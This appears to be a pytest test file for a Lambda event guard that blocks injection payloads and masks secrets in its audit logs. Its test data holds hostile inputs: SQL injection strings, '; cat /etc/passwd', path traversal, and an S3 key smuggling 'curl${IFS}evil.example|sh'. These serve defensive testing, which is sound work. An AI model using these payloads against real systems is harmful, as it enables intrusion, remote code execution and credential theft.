"""@moat.guard over real-shaped Lambda events (tests/fixtures/events, from aws-lambda-go and
aws-sam-cli) with payloads injected into copies, and a fake Lambda context."""

import copy
import json
import sys

import pytest

import moat
from conftest import ROOT, run_threads

guard_module = sys.modules["moat.guard"]
EVENTS = ROOT / "tests" / "fixtures" / "events"

SQLI = "1' OR '1'='1' --"
COMMAND = "; cat /etc/passwd"


def event(name):
    return json.loads((EVENTS / f"{name}.json").read_text())


class Context:
    function_name = "orders-api"
    aws_request_id = "c6af9ac6-7b61-11e6-9a41-93e812345678"
    memory_limit_in_mb = 128


CONTEXT = Context()


def apigw_with_body(body):
    e = event("apigw_rest")
    e["body"] = json.dumps(body)
    e["isBase64Encoded"] = False
    return e


def sqs_batch(bodies):
    template = event("sqs")["Records"][0]
    records = []
    for i, body in enumerate(bodies):
        r = copy.deepcopy(template)
        r["messageId"] = f"msg-{i}"
        r["body"] = body
        records.append(r)
    return {"Records": records}


def s3_with_key(key):
    e = event("s3_put")
    e["Records"][0]["s3"]["object"]["key"] = key
    return e


class Recorder:
    """A handler that records the events it was given."""

    def __init__(self, result="ok"):
        self.events = []
        self.result = result

    def __call__(self, event, context):
        self.events.append(event)
        return self.result


def audit_lines(capsys):
    out = capsys.readouterr().out
    return [json.loads(line) for line in out.splitlines() if line.startswith("{")]


# ---------------------------------------------------------------------------
# Benign events reach the handler, with no audit line

@pytest.mark.parametrize("name", ["apigw_rest", "apigw_http", "lambda_url", "sqs", "s3_put", "kinesis", "dynamodb"])
def test_benign_events_pass(name, capsys):
    handler = Recorder()
    guarded = moat.guard(handler)
    assert guarded(event(name), CONTEXT) == "ok"
    assert handler.events == [event(name)]
    assert audit_lines(capsys) == []


def test_benign_json_body_passes(capsys):
    handler = Recorder()
    assert moat.guard(handler)(apigw_with_body({"comment": "Great product, would buy again!", "qty": 2}),
                               CONTEXT) == "ok"
    assert len(handler.events) == 1 and audit_lines(capsys) == []


# ---------------------------------------------------------------------------
# Malicious events are blocked with the response shape of their source

def test_apigw_sqli_gets_400(capsys):
    handler = Recorder()
    response = moat.guard(handler)(apigw_with_body({"comment": SQLI}), CONTEXT)
    assert handler.events == []
    assert response["statusCode"] == 400
    assert response["headers"]["Content-Type"] == "application/json"
    assert json.loads(response["body"])["requestId"] == CONTEXT.aws_request_id
    lines = audit_lines(capsys)
    assert lines and all(line["decision"] == "blocked" for line in lines)
    assert "MOAT-INJ-017" in {line["rule_id"] for line in lines}
    sql = next(line for line in lines if line["rule_id"] == "MOAT-INJ-017")
    assert sql["pointer"] == "/body#/comment"
    assert sql["source"] == "apigateway.rest"
    assert sql["function"] == "orders-api" and sql["request_id"] == CONTEXT.aws_request_id
    assert sql["technique"] == "SQL injection"
    assert sql["confidence"] in ("high", "medium")
    assert sql["timestamp"].endswith("Z")


def test_function_url_and_http_api_get_400():
    for name in ["lambda_url", "apigw_http"]:
        e = event(name)
        e["queryStringParameters"] = {"q": SQLI}
        e["rawQueryString"] = "q=" + SQLI.replace(" ", "+")
        handler = Recorder()
        response = moat.guard(handler, audit=lambda line: None)(e, CONTEXT)
        assert handler.events == [] and response["statusCode"] == 400, name


def test_custom_response_and_raise_on_block():
    e = apigw_with_body({"comment": SQLI})
    custom = {"statusCode": 403, "body": "no"}
    assert moat.guard(Recorder(), response=custom, audit=lambda line: None)(e, CONTEXT) == custom
    with pytest.raises(moat.EventBlocked) as info:
        moat.guard(Recorder(), raise_on_block=True, audit=lambda line: None)(e, CONTEXT)
    assert "MOAT-INJ-017" in {d.rule_id for d in info.value.detections}


def test_sqs_partial_batch(capsys):
    handler = Recorder(result=None)
    batch = sqs_batch(["order 17 shipped", COMMAND, json.dumps({"id": SQLI}), "all good"])
    response = moat.guard(handler)(batch, CONTEXT)
    failures = {f["itemIdentifier"] for f in response["batchItemFailures"]}
    assert failures == {"msg-1", "msg-2"}
    # The clean records still reach the handler, in a copy of the event.
    assert [r["messageId"] for r in handler.events[0]["Records"]] == ["msg-0", "msg-3"]
    assert len(batch["Records"]) == 4
    lines = audit_lines(capsys)
    assert {line["record"] for line in lines} == {1, 2}
    assert all(line["source"] == "sqs" and line["decision"] == "blocked" for line in lines)


def test_sqs_handler_failures_are_merged():
    handler = Recorder(result={"batchItemFailures": [{"itemIdentifier": "msg-0"}]})
    response = moat.guard(handler, audit=lambda line: None)(sqs_batch(["ok", COMMAND]), CONTEXT)
    assert response == {"batchItemFailures": [{"itemIdentifier": "msg-0"}, {"itemIdentifier": "msg-1"}]}


def test_sqs_all_records_blocked_skips_the_handler():
    handler = Recorder()
    response = moat.guard(handler, audit=lambda line: None)(sqs_batch([COMMAND]), CONTEXT)
    assert response == {"batchItemFailures": [{"itemIdentifier": "msg-0"}]} and handler.events == []


def test_s3_malicious_key_raises(capsys):
    handler = Recorder()
    with pytest.raises(moat.EventBlocked) as info:
        moat.guard(handler)(s3_with_key("uploads/a;curl${IFS}evil.example|sh;.jpg"), CONTEXT)
    assert handler.events == [] and info.value.source == "s3"
    lines = audit_lines(capsys)
    assert lines and all(line["source"] == "s3" and line["decision"] == "blocked" for line in lines)


# ---------------------------------------------------------------------------
# Report mode, allow-lists, audit

def test_report_mode_calls_the_handler_and_logs(capsys):
    handler = Recorder()
    e = apigw_with_body({"comment": SQLI})
    assert moat.guard(handler, mode="report")(e, CONTEXT) == "ok"
    assert handler.events == [e]
    lines = audit_lines(capsys)
    assert lines and all(line["decision"] == "reported" for line in lines)


def test_one_audit_line_per_detection(capsys):
    g = moat.Guard()
    e = apigw_with_body({"comment": SQLI, "file": "../../../../etc/passwd"})
    detections = g.inspect(e).detections
    assert len(detections) >= 2
    moat.guard(Recorder(), mode="report")(e, CONTEXT)
    lines = audit_lines(capsys)
    assert len(lines) == len(detections)
    assert sorted((line["rule_id"], line["pointer"]) for line in lines) == sorted(
        (d.rule_id, d.pointer) for d in detections)


def test_allow_list_prefix_and_glob(capsys):
    e = apigw_with_body({"comment": SQLI})
    handler = Recorder()
    assert moat.guard(handler, allow={"MOAT-INJ-017": ["/body#/comment"]})(e, CONTEXT) == "ok"
    lines = audit_lines(capsys)
    assert [line["decision"] for line in lines if line["rule_id"] == "MOAT-INJ-017"] == ["allowed-by-list"]
    assert handler.events == [e]
    # A prefix covers the members below it; a glob covers every record.
    handler = Recorder(result=None)
    g = moat.guard(handler, allow={"*": ["/Records/*/body"]}, audit=lambda line: None)
    assert g(sqs_batch(["fine", COMMAND]), CONTEXT) is None
    assert len(handler.events[0]["Records"]) == 2
    # Allowing another rule or another field does not let it through.
    response = moat.guard(Recorder(), allow={"MOAT-INJ-018": ["/body"], "MOAT-INJ-017": ["/body#/other"]},
                          audit=lambda line: None)(e, CONTEXT)
    assert response["statusCode"] == 400


def test_audit_hook_receives_the_lines(capsys):
    received = []
    moat.guard(Recorder(), audit=received.append)(apigw_with_body({"comment": SQLI}), CONTEXT)
    assert received and capsys.readouterr().out == ""
    assert {"timestamp", "function", "request_id", "source", "rule_id", "technique", "pointer",
            "decision"} <= set(received[0])


def test_secrets_are_masked_in_excerpts():
    received = []
    body = {"comment": "' OR 1=1 -- password=hunter2secret AKIAIOSFODNN7EXAMPLE"}
    moat.guard(Recorder(), audit=received.append)(apigw_with_body(body), CONTEXT)
    text = json.dumps(received)
    assert received and "hunter2secret" not in text and "AKIAIOSFODNN7EXAMPLE" not in text.upper()


def test_mask_secrets():
    mask = guard_module.mask_secrets
    assert mask("key AKIAIOSFODNN7EXAMPLE here") == "key AKIA**** here"
    assert mask("user=bob&password=hunter2&x=1") == "user=bob&password=hunt****&x=1"
    assert mask("api_key: sk_live_abcdef") == "api_key: sk_l****"
    assert mask("Authorization: Bearer abc.def.ghi123456") == "Authorization: Bearer abc.****"
    assert mask("secret wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY end") == "secret wJal**** end"
    token = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"
    assert mask(token) == "eyJh****"
    # Ordinary text and attack strings stay readable.
    assert mask("' or 1=1 -- ") == "' or 1=1 -- "
    assert mask("uploads/2026/holiday-photos-final.jpg") == "uploads/2026/holiday-photos-final.jpg"


def test_excerpts_are_truncated():
    received = []
    moat.guard(Recorder(), audit=received.append)(apigw_with_body({"comment": SQLI + " x" * 500}), CONTEXT)
    assert received and all(len(line["excerpt"]) <= guard_module.EXCERPT_CHARS + 3 for line in received)


# ---------------------------------------------------------------------------
# Compilation once, errors, budgets, extra policies

def test_program_compiled_once(monkeypatch):
    guard_module.clear_cache()
    calls = []
    original = moat.Engine.compile

    def counting(self):
        calls.append(1)
        return original(self)

    monkeypatch.setattr(moat.Engine, "compile", counting)
    handler = Recorder()
    guarded = moat.guard(handler, audit=lambda line: None)
    for _ in range(20):
        guarded(event("apigw_rest"), CONTEXT)
        guarded(apigw_with_body({"comment": SQLI}), CONTEXT)
    moat.guard(Recorder())  # same configuration: the cached program
    assert len(calls) == 1 and len(handler.events) == 20
    moat.guard(Recorder(), mode="report", allow={"MOAT-INJ-017": ["/x"]})  # mode/allow: same program
    assert len(calls) == 1
    moat.guard(Recorder(), max_wall_ms=50)  # other budgets: another program
    assert len(calls) == 2


def test_threads_share_the_guard():
    handler = Recorder()
    guarded = moat.guard(handler, audit=lambda line: None)
    results = []

    def work():
        for _ in range(20):
            results.append(guarded(apigw_with_body({"comment": SQLI}), CONTEXT)["statusCode"])
            results.append(guarded(event("apigw_rest"), CONTEXT))

    run_threads([work] * 4, timeout=120)
    assert results.count(400) == 80 and results.count("ok") == 80


def test_organisation_policy():
    policy = '''package acme.guard
rule "ACME-EVT-1" {
  title: "Internal header in a request"
  severity: high
  category: injection
  formats: ["event"]
  for f in input.fields
  where f.name == "http.header" and lower(f.key) == "x-internal-admin"
  report "internal admin header at ${f.pointer}" at f subject f.pointer
}
'''
    e = event("apigw_rest")
    e["headers"]["X-Internal-Admin"] = "1"
    received = []
    response = moat.guard(Recorder(), policies=[policy], audit=received.append)(e, CONTEXT)
    assert response["statusCode"] == 400
    assert [line["rule_id"] for line in received] == ["ACME-EVT-1"]
    assert received[0]["pointer"] == "/headers/X-Internal-Admin"


def test_on_error_pass_and_block(capsys):
    # An evaluation budget too small for any event: fail open by default, closed on request.
    handler = Recorder()
    assert moat.guard(handler, max_instructions=10)(event("apigw_rest"), CONTEXT) == "ok"
    lines = audit_lines(capsys)
    assert len(lines) == 1 and lines[0]["decision"] == "error-passed" and "error" in lines[0]
    response = moat.guard(Recorder(), max_instructions=10, on_error="block")(event("apigw_rest"), CONTEXT)
    assert response["statusCode"] == 400
    assert audit_lines(capsys)[0]["decision"] == "blocked"
    # Report mode never blocks, even on errors.
    assert moat.guard(Recorder(), max_instructions=10, on_error="block", mode="report",
                      audit=lambda line: None)(event("apigw_rest"), CONTEXT) == "ok"


def test_bad_options():
    with pytest.raises(ValueError):
        moat.guard(mode="deny")
    with pytest.raises(ValueError):
        moat.guard(on_error="ignore")
    with pytest.raises(FileNotFoundError):
        moat.guard(policies=["missing.moat"])


def test_handler_exceptions_propagate():
    def failing(event, context):
        raise KeyError("boom")

    with pytest.raises(KeyError):
        moat.guard(failing)(event("apigw_rest"), CONTEXT)


def test_lambda_example(capsys):
    import importlib.util
    spec = importlib.util.spec_from_file_location("lambda_example", ROOT / "examples" / "lambda" / "handler.py")
    example = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(example)
    e = apigw_with_body({"comment": SQLI, "name": "ann"})
    assert example.handler(e, CONTEXT)["statusCode"] == 200  # the comment is allow-listed
    e = apigw_with_body({"name": "1 UNION SELECT password FROM users--"})
    assert example.handler(e, CONTEXT)["statusCode"] == 400
    assert example.consume(sqs_batch(["{}", "not json", COMMAND]), CONTEXT) == {
        "batchItemFailures": [{"itemIdentifier": "msg-1"}, {"itemIdentifier": "msg-2"}]}
    assert audit_lines(capsys)


def test_kinesis_and_dynamodb_partial_batch():
    import base64
    e = event("kinesis")
    e["Records"][1]["kinesis"]["data"] = base64.b64encode(COMMAND.encode()).decode()
    handler = Recorder(result=None)
    response = moat.guard(handler, audit=lambda line: None)(e, CONTEXT)
    assert response == {"batchItemFailures": [{"itemIdentifier": e["Records"][1]["kinesis"]["sequenceNumber"]}]}
    assert handler.events[0]["Records"] == [e["Records"][0]]
    e = event("dynamodb")
    e["Records"][0]["dynamodb"]["NewImage"]["Message"]["S"] = SQLI
    handler = Recorder(result=None)
    response = moat.guard(handler, audit=lambda line: None)(e, CONTEXT)
    assert {"itemIdentifier": e["Records"][0]["dynamodb"]["SequenceNumber"]} in response["batchItemFailures"]
    clean = e["Records"][1:]
    assert handler.events == ([dict(e, Records=clean)] if clean else [])


def test_lowercase_excerpt_keys_are_masked():
    assert guard_module.mask_secrets("akiaiosfodnn7example") == "akia****"
